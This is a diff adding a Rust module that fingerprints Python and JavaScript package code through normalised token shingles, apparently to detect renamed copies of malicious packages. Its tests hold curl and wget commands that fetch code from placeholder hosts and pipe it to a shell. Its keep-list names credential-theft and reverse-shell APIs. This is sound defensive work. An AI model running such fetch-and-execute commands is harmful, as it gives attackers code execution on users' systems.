@@ -1,0 +1,642 @@
+//! Code fingerprints: normalised token shingles of a package's own code.
+//!
+//! A small hand-written lexer (Python and JavaScript) turns each code file into tokens, then
+//! normalises them: identifiers become `ID`, string literals `STR`, numbers `NUM`; keywords,
+//! operators and a fixed list of well-known, behaviour-bearing API names (`os`, `system`,
+//! `subprocess`, `b64decode`, `child_process`, `exec` ...) are kept. A renamed copy of a
+//! package (new package name, new identifiers, new C2 string) therefore yields the same tokens.
+//!
+//! Why a lexer and not tree-sitter leaves: normalisation only needs the token class, which a
+//! lexer gives exactly; it accepts Python 2, minified and truncated files identically; and it is
+//! about an order of magnitude faster, which matters for the 100k-package scale target.
+
+use malgraph_core::PackageFile;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeSet;
+
+/// Shingle size (tokens per shingle) used by [`fingerprint`].
+pub const DEFAULT_SHINGLE: usize = 7;
+/// Files above this size are treated as generated or vendored and skipped.
+pub const MAX_FILE_BYTES: usize = 512 * 1024;
+
+/// The code fingerprint of one package (one archive).
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct CodeFingerprint {
+    /// sha256 over the sorted per-file digests of the normalised token streams: equal for
+    /// packages whose code is identical up to renaming and file layout. Empty when no code.
+    pub normalized_sha256: String,
+    /// Sorted, de-duplicated 64-bit hashes of k-token shingles over all code files.
+    pub shingles: Vec<u64>,
+    /// Number of tokens seen in the package's own code.
+    pub tokens: u64,
+    /// Top-level module names the package ships itself (so its own imports never become
+    /// dependency edges), normalised to lower case.
+    pub modules: Vec<String>,
+}
+
+/// Options of [`fingerprint_with`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct FingerprintOptions {
+    /// Tokens per shingle.
+    pub shingle: usize,
+    /// Keep well-known API names (`system`, `b64decode` ...) instead of normalising them to `ID`.
+    pub keep_api_names: bool,
+}
+
+impl Default for FingerprintOptions {
+    fn default() -> Self {
+        FingerprintOptions {
+            shingle: DEFAULT_SHINGLE,
+            keep_api_names: true,
+        }
+    }
+}
+
+/// Fingerprint a package's own code with the default options.
+pub fn fingerprint(files: &[PackageFile]) -> CodeFingerprint {
+    fingerprint_with(files, FingerprintOptions::default())
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Lang {
+    Python,
+    JavaScript,
+}
+
+fn lang_of(path: &str) -> Option<Lang> {
+    let lower = path.to_ascii_lowercase();
+    if lower.ends_with(".py") || lower.ends_with(".pyw") {
+        Some(Lang::Python)
+    } else if lower.ends_with(".js") || lower.ends_with(".mjs") || lower.ends_with(".cjs") {
+        if lower.ends_with(".min.js") {
+            return None;
+        }
+        Some(Lang::JavaScript)
+    } else {
+        None
+    }
+}
+
+/// Paths that are not the package's own code: vendored trees, build output, metadata.
+fn skipped_path(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    lower.split(['/', '!']).any(|seg| {
+        matches!(
+            seg,
+            "node_modules" | "site-packages" | "dist-packages" | "__pycache__" | ".git" | "vendor"
+        ) || seg.ends_with(".egg-info")
+            || seg.ends_with(".dist-info")
+    })
+}
+
+/// Path without the archive's top folder (`pkg-1.0/pkg/x.py` -> `pkg/x.py`).
+fn strip_top(path: &str) -> &str {
+    let p = path.rsplit("!/").next().unwrap_or(path);
+    match p.split_once('/') {
+        Some((_, rest)) if !rest.is_empty() => rest,
+        _ => p,
+    }
+}
+
+/// Fingerprint a package's own code.
+pub fn fingerprint_with(files: &[PackageFile], opts: FingerprintOptions) -> CodeFingerprint {
+    let k = opts.shingle.max(1);
+    let mut shingles: Vec<u64> = Vec::new();
+    let mut digests: Vec<[u8; 32]> = Vec::new();
+    let mut modules = BTreeSet::new();
+    let mut tokens_total = 0u64;
+    let mut toks: Vec<u64> = Vec::new();
+    for f in files {
+        let Some(lang) = lang_of(&f.path) else {
+            continue;
+        };
+        if skipped_path(&f.path) || f.data.len() > MAX_FILE_BYTES {
+            continue;
+        }
+        let rel = strip_top(&f.path);
+        if lang == Lang::Python
+            && let Some(m) = own_module(rel)
+        {
+            modules.insert(m);
+        }
+        toks.clear();
+        lex(&f.data, lang, opts.keep_api_names, &mut toks);
+        if toks.is_empty() {
+            continue;
+        }
+        tokens_total += toks.len() as u64;
+        let mut h = Sha256::new();
+        for t in &toks {
+            h.update(t.to_le_bytes());
+        }
+        let d = h.finalize();
+        let mut arr = [0u8; 32];
+        arr.copy_from_slice(&d);
+        digests.push(arr);
+        if toks.len() < k {
+            shingles.push(shingle_hash(&toks));
+        } else {
+            for w in toks.windows(k) {
+                shingles.push(shingle_hash(w));
+            }
+        }
+    }
+    shingles.sort_unstable();
+    shingles.dedup();
+    let normalized_sha256 = if digests.is_empty() {
+        String::new()
+    } else {
+        digests.sort_unstable();
+        let mut h = Sha256::new();
+        for d in &digests {
+            h.update(d);
+        }
+        hex::encode(h.finalize())
+    };
+    CodeFingerprint {
+        normalized_sha256,
+        shingles,
+        tokens: tokens_total,
+        modules: modules.into_iter().collect(),
+    }
+}
+
+/// The top-level module a Python file provides (`foo/bar.py` -> `foo`, `foo.py` -> `foo`),
+/// ignoring `setup.py` and test folders.
+fn own_module(rel: &str) -> Option<String> {
+    let first = rel.split('/').next()?;
+    let name = first.strip_suffix(".py").unwrap_or(first);
+    if name.is_empty() || name == "setup" || name == "src" || name.contains('.') {
+        return None;
+    }
+    Some(name.to_ascii_lowercase())
+}
+
+/// 64-bit FNV-1a, then a splitmix finaliser: stable across platforms and releases.
+pub(crate) fn hash_bytes(b: &[u8]) -> u64 {
+    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
+    for &x in b {
+        h ^= x as u64;
+        h = h.wrapping_mul(0x0000_0100_0000_01b3);
+    }
+    mix(h)
+}
+
+/// splitmix64 finaliser.
+pub(crate) fn mix(mut z: u64) -> u64 {
+    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+    z ^ (z >> 31)
+}
+
+fn shingle_hash(w: &[u64]) -> u64 {
+    let mut h: u64 = 0x9e37_79b9_7f4a_7c15;
+    for &t in w {
+        h = mix(h ^ t).rotate_left(17);
+    }
+    h
+}
+
+const PY_KEYWORDS: &[&str] = &[
+    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue",
+    "def", "del", "elif", "else", "except", "finally", "for", "from", "global", "if", "import",
+    "in", "is", "lambda", "nonlocal", "not", "or", "pass", "raise", "return", "try", "while",
+    "with", "yield", "print", "exec",
+];
+
+const JS_KEYWORDS: &[&str] = &[
+    "var",
+    "let",
+    "const",
+    "function",
+    "return",
+    "if",
+    "else",
+    "for",
+    "while",
+    "do",
+    "switch",
+    "case",
+    "break",
+    "continue",
+    "new",
+    "delete",
+    "typeof",
+    "instanceof",
+    "in",
+    "of",
+    "try",
+    "catch",
+    "finally",
+    "throw",
+    "class",
+    "extends",
+    "super",
+    "this",
+    "null",
+    "undefined",
+    "true",
+    "false",
+    "async",
+    "await",
+    "yield",
+    "import",
+    "export",
+    "from",
+    "default",
+    "void",
+];
+
+/// Well-known module and API names whose use is behaviour: kept verbatim.
+const API_NAMES: &[&str] = &[
+    // Python builtins and dynamic execution
+    "eval",
+    "compile",
+    "__import__",
+    "open",
+    "getattr",
+    "setattr",
+    "globals",
+    "locals",
+    "chr",
+    "ord",
+    "bytes",
+    "bytearray",
+    "input",
+    "__builtins__",
+    "builtins",
+    "setup",
+    "cmdclass",
+    "install",
+    "develop",
+    "egg_info",
+    "run",
+    "find_packages",
+    // Python modules
+    "os",
+    "sys",
+    "subprocess",
+    "socket",
+    "base64",
+    "zlib",
+    "marshal",
+    "urllib",
+    "urllib2",
+    "request",
+    "requests",
+    "json",
+    "platform",
+    "getpass",
+    "shutil",
+    "tempfile",
+    "ctypes",
+    "winreg",
+    "_winreg",
+    "sqlite3",
+    "browser_cookie3",
+    "discord",
+    "webbrowser",
+    "threading",
+    "multiprocessing",
+    "pickle",
+    "codecs",
+    "binascii",
+    "hashlib",
+    "uuid",
+    "random",
+    "time",
+    "http",
+    "httplib",
+    "ftplib",
+    "smtplib",
+    "telebot",
+    "pyautogui",
+    "win32crypt",
+    "Crypto",
+    "cryptography",
+    "fernet",
+    "Fernet",
+    "re",
+    "io",
+    "pathlib",
+    "glob",
+    // Python APIs
+    "system",
+    "popen",
+    "Popen",
+    "call",
+    "check_call",
+    "check_output",
+    "spawn",
+    "startfile",
+    "b64decode",
+    "b64encode",
+    "decode",
+    "encode",
+    "decompress",
+    "loads",
+    "dumps",
+    "urlopen",
+    "urlretrieve",
+    "get",
+    "post",
+    "put",
+    "write",
+    "read",
+    "connect",
+    "send",
+    "sendall",
+    "recv",
+    "environ",
+    "getenv",
+    "path",
+    "join",
+    "exists",
+    "remove",
+    "unlink",
+    "listdir",
+    "walk",
+    "makedirs",
+    "mkdir",
+    "home",
+    "expanduser",
+    "gethostname",
+    "getuser",
+    "node",
+    "uname",
+    "executable",
+    "argv",
+    "exit",
+    "chmod",
+    "copy",
+    "copyfile",
+    "move",
+    "rmtree",
+    "Thread",
+    "start",
+    "sleep",
+    "content",
+    "text",
+    "status_code",
+    "headers",
+    "json",
+    "Request",
+    "urlencode",
+    "AF_INET",
+    "SOCK_STREAM",
+    "dup2",
+    "fileno",
+    "pty",
+    "CryptUnprotectData",
+    "AES",
+    "new",
+    "webhook",
+    "Webhook",
+    "Embed",
+    "APPDATA",
+    "LOCALAPPDATA",
+    "USERPROFILE",
+    "TEMP",
+    // JavaScript / Node
+    "require",
+    "child_process",
+    "exec",
+    "execSync",
+    "spawnSync",
+    "fork",
+    "fs",
+    "https",
+    "dns",
+    "net",
+    "readFileSync",
+    "writeFileSync",
+    "readdirSync",
+    "existsSync",
+    "homedir",
+    "hostname",
+    "userInfo",
+    "networkInterfaces",
+    "Buffer",
+    "from",
+    "toString",
+    "atob",
+    "btoa",
+    "fetch",
+    "Function",
+    "process",
+    "env",
+    "__dirname",
+    "__filename",
+    "module",
+    "exports",
+    "stringify",
+    "parse",
+    "XMLHttpRequest",
+    "axios",
+    "lookup",
+    "resolve",
+    "createConnection",
+    "Socket",
+    "on",
+    "end",
+    "data",
+    "pipe",
+    "stdout",
+    "cwd",
+    "platform",
+    "arch",
+    "tmpdir",
+];
+
+fn keep_ident(s: &str, lang: Lang, keep_api: bool) -> bool {
+    let kw = match lang {
+        Lang::Python => PY_KEYWORDS,
+        Lang::JavaScript => JS_KEYWORDS,
+    };
+    kw.contains(&s) || (keep_api && API_NAMES.contains(&s))
+}
+
+const T_ID: u64 = 0x1d1d_1d1d_0000_0001;
+const T_STR: u64 = 0x5757_5757_0000_0002;
+const T_NUM: u64 = 0x4e4e_4e4e_0000_0003;
+
+fn is_ident_start(c: u8) -> bool {
+    c.is_ascii_alphabetic() || c == b'_' || c == b'$' || c >= 0x80
+}
+
+fn is_ident_cont(c: u8) -> bool {
+    is_ident_start(c) || c.is_ascii_digit()
+}
+
+/// Lex `src` into normalised token hashes. Never fails: unknown bytes become operator tokens,
+/// unterminated strings end at the end of input.
+fn lex(src: &[u8], lang: Lang, keep_api: bool, out: &mut Vec<u64>) {
+    let n = src.len();
+    let mut i = 0usize;
+    while i < n {
+        let c = src[i];
+        if c.is_ascii_whitespace() || c == b'\\' && i + 1 < n && src[i + 1] == b'\n' {
+            i += 1;
+            continue;
+        }
+        // comments
+        if lang == Lang::Python && c == b'#' {
+            while i < n && src[i] != b'\n' {
+                i += 1;
+            }
+            continue;
+        }
+        if lang == Lang::JavaScript && c == b'/' && i + 1 < n {
+            if src[i + 1] == b'/' {
+                while i < n && src[i] != b'\n' {
+                    i += 1;
+                }
+                continue;
+            }
+            if src[i + 1] == b'*' {
+                i += 2;
+                while i + 1 < n && !(src[i] == b'*' && src[i + 1] == b'/') {
+                    i += 1;
+                }
+                i = (i + 2).min(n);
+                continue;
+            }
+        }
+        if is_ident_start(c) {
+            let start = i;
+            while i < n && is_ident_cont(src[i]) {
+                i += 1;
+            }
+            // Python string prefixes: r"", b'', f"", rb"" ...
+            if lang == Lang::Python
+                && i < n
+                && (src[i] == b'"' || src[i] == b'\'')
+                && i - start <= 2
+                && src[start..i]
+                    .iter()
+                    .all(|b| matches!(b.to_ascii_lowercase(), b'r' | b'b' | b'u' | b'f'))
+            {
+                i = skip_string(src, i, lang);
+                out.push(T_STR);
+                continue;
+            }
+            let word = &src[start..i];
+            let tok = match std::str::from_utf8(word) {
+                Ok(s) if keep_ident(s, lang, keep_api) => hash_bytes(word),
+                _ => T_ID,
+            };
+            out.push(tok);
+            continue;
+        }
+        if c.is_ascii_digit() || (c == b'.' && i + 1 < n && src[i + 1].is_ascii_digit()) {
+            while i < n && (src[i].is_ascii_alphanumeric() || src[i] == b'.' || src[i] == b'_') {
+                i += 1;
+            }
+            out.push(T_NUM);
+            continue;
+        }
+        if c == b'"' || c == b'\'' || (lang == Lang::JavaScript && c == b'`') {
+            i = skip_string(src, i, lang);
+            out.push(T_STR);
+            continue;
+        }
+        out.push(hash_bytes(&[c]));
+        i += 1;
+    }
+}
+
+/// Skip a string literal starting at the quote `src[i]`; returns the index after it.
+fn skip_string(src: &[u8], i: usize, lang: Lang) -> usize {
+    let n = src.len();
+    let q = src[i];
+    let triple = lang == Lang::Python && i + 2 < n && src[i + 1] == q && src[i + 2] == q;
+    let mut j = if triple { i + 3 } else { i + 1 };
+    while j < n {
+        let c = src[j];
+        if c == b'\\' {
+            j += 2;
+            continue;
+        }
+        if triple {
+            if c == q && j + 2 < n && src[j + 1] == q && src[j + 2] == q {
+                return j + 3;
+            }
+        } else if c == q {
+            return j + 1;
+        } else if c == b'\n' && q != b'`' {
+            // unterminated single-line string: stop at the line end
+            return j;
+        }
+        j += 1;
+    }
+    n
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn file(path: &str, code: &str) -> PackageFile {
+        PackageFile {
+            path: path.into(),
+            data: code.as_bytes().to_vec(),
+        }
+    }
+
+    #[test]
+    fn renamed_copy_has_same_normalised_hash() {
+        let a = fingerprint(&[file(
+            "evil-1.0/evil/__init__.py",
+            "import os\nvictim = os.getenv('HOME')\nos.system('curl http://a.test/x | sh')\n",
+        )]);
+        let b = fingerprint(&[file(
+            "other-2.3/other/__init__.py",
+            "import os\n# comment\nzz = os.getenv(\"USER\")\nos.system(\"wget http://b.test/y\")\n",
+        )]);
+        assert_eq!(a.normalized_sha256, b.normalized_sha256);
+        assert_eq!(a.shingles, b.shingles);
+        assert_eq!(a.modules, vec!["evil".to_string()]);
+        let c = fingerprint(&[file(
+            "x-1/x.py",
+            "import os\nvictim = os.getenv('HOME')\nsubprocess.call('x')\n",
+        )]);
+        assert_ne!(a.normalized_sha256, c.normalized_sha256);
+    }
+
+    #[test]
+    fn metadata_and_vendored_files_are_skipped() {
+        let fp = fingerprint(&[
+            file("p-1/PKG-INFO", "Name: p\nVersion: 1\n"),
+            file("p-1/node_modules/lib/index.js", "var a = 1;"),
+            file("p-1/p.egg-info/top_level.py", "x = 1"),
+        ]);
+        assert_eq!(fp.tokens, 0);
+        assert!(fp.normalized_sha256.is_empty());
+    }
+
+    #[test]
+    fn lexer_survives_broken_input() {
+        let fp = fingerprint(&[
+            file("a/b.py", "s = '''never closed\nprint 'py2'\n"),
+            file("a/c.js", "var s = `tmpl ${x}` /* open comment"),
+            file("a/d.py", "\u{0}\u{ff}\"\\"),
+        ]);
+        assert!(fp.tokens > 0);
+    }
+
+    #[test]
+    fn js_template_and_comments() {
+        let mut v = Vec::new();
+        lex(
+            b"const a = require('child_process'); // c\n a.exec(`x`)",
+            Lang::JavaScript,
+            true,
+            &mut v,
+        );
+        // const ID = require ( STR ) ; ID . exec ( STR )
+        assert_eq!(v.len(), 14);
+        assert_eq!(v[1], T_ID);
+        assert_eq!(v[5], T_STR);
+    }
+}
